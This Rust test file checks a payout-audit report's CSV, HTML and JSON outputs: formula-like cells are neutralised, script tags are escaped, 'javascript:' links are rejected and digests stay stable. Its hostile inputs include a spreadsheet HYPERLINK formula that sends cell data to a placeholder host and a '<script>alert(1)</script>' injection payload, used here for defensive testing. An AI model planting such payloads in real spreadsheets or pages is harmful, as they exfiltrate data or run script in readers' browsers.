//! The four forms say the same, and nothing in them runs.

use payout_audit::report::Links;

use crate::case::Case;

const FORMULA: &str = "=HYPERLINK(\"http://x.example/?\"&A1)";
const SCRIPT: &str = "<script>alert(1)</script>";

fn hostile() -> Case {
    let mut case = Case::new();
    for key in [FORMULA, SCRIPT, "+k", "@k"] {
        case.story.void(key);
        case.happened();
    }
    case
}

#[test]
fn what_looks_like_a_formula_is_text_and_comes_back() {
    let report = hostile().audit(&[]);
    let text = report.csv().expect("CSV");
    let mut csv = csv::Reader::from_reader(text.as_bytes());
    let mut keys = Vec::new();
    for record in csv.records() {
        let record = record.expect("a record");
        for cell in &record {
            assert!(!cell.starts_with(['=', '+', '-', '@']), "{cell}");
        }
        if &record[0] == "notice" && &record[1] == "void" {
            keys.push(payout_engine::rows::unguarded(&record[6]).to_owned());
        }
    }
    assert_eq!(keys, ["k4", FORMULA, SCRIPT, "+k", "@k"]);
}

#[test]
fn the_page_needs_nothing_and_runs_nothing() {
    let case = hostile();
    let mut forged = hostile();
    forged.chain().balance = Some(0);
    for report in [case.audit(&[]), forged.audit(&[])] {
        let links = Links::to("https://explorer.example/").expect("an address");
        let page = report.html(&links);
        assert!(!page.contains("<script"), "no script, whoever writes it");
        assert!(page.contains("&lt;script&gt;alert(1)&lt;/script&gt;"));
        for outside in ["src=", "@import", "<link", "url("] {
            assert!(!page.contains(outside), "{outside}");
        }
        let verdict = page.find(report.verdict.name()).expect("the verdict");
        assert!(
            verdict < page.find("<h1").expect("a heading"),
            "the verdict comes first"
        );
        assert_eq!(page.matches("<svg").count(), 2);
        assert!(page.contains("https://explorer.example/tx/"));
        assert!(page.contains(&hex::encode(report.digest)));
    }
    assert!(Links::to("javascript:alert(1)").is_none());
}

#[test]
fn json_has_amounts_as_strings_and_the_exit_code() {
    let mut case = Case::new();
    case.chain().balance = Some(0);
    let report = case.audit(&[]);
    let json = report.json();
    assert_eq!(json["verdict"], "refuted");
    assert_eq!(json["exit_code"], 27);
    assert_eq!(json["scope"]["state"]["total_paid"], "850");
    assert_eq!(
        json["scope"]["ledgers"]["text"],
        "1\u{2013}20 without a hole"
    );
    assert_eq!(json["findings"][0]["check"], "BALANCE");
    assert_eq!(json["listed"]["replay"], 2);
    assert_eq!(json["listed"]["conflict"], 1);
    assert_eq!(json["listed"]["void"], 1);
    assert_eq!(json["listed"]["import"], 1);
    assert_eq!(json["days"][0]["payouts"], 4);
}

#[test]
fn two_auditors_agree_whatever_their_nodes() {
    let mut one = Case::new();
    let mut other = Case::new();
    for (case, latest) in [(&mut one, 20), (&mut other, 1_000)] {
        for sheet in &mut case.sheets {
            sheet.latest = latest;
        }
    }
    other.chain().nodes = 2;
    assert_eq!(one.audit(&[]).digest, other.audit(&[]).digest);
    other.tx(5).events[0].id = other.tx(5).events[0]
        .id
        .replace("-0000000000", "-0000000007");
    assert_ne!(one.audit(&[]).digest, other.audit(&[]).digest);
}

#[test]
fn a_finding_in_the_table_shows_where_to_look() {
    let mut case = Case::new();
    let key = "k2";
    case.tx(3).events.remove(1);
    let text = case.audit(&[]).table();
    assert!(text.starts_with("Refuted: "), "{text}");
    for part in ["ledger 13", key, "TRANSFERS"] {
        assert!(text.contains(part), "{part}");
    }
}
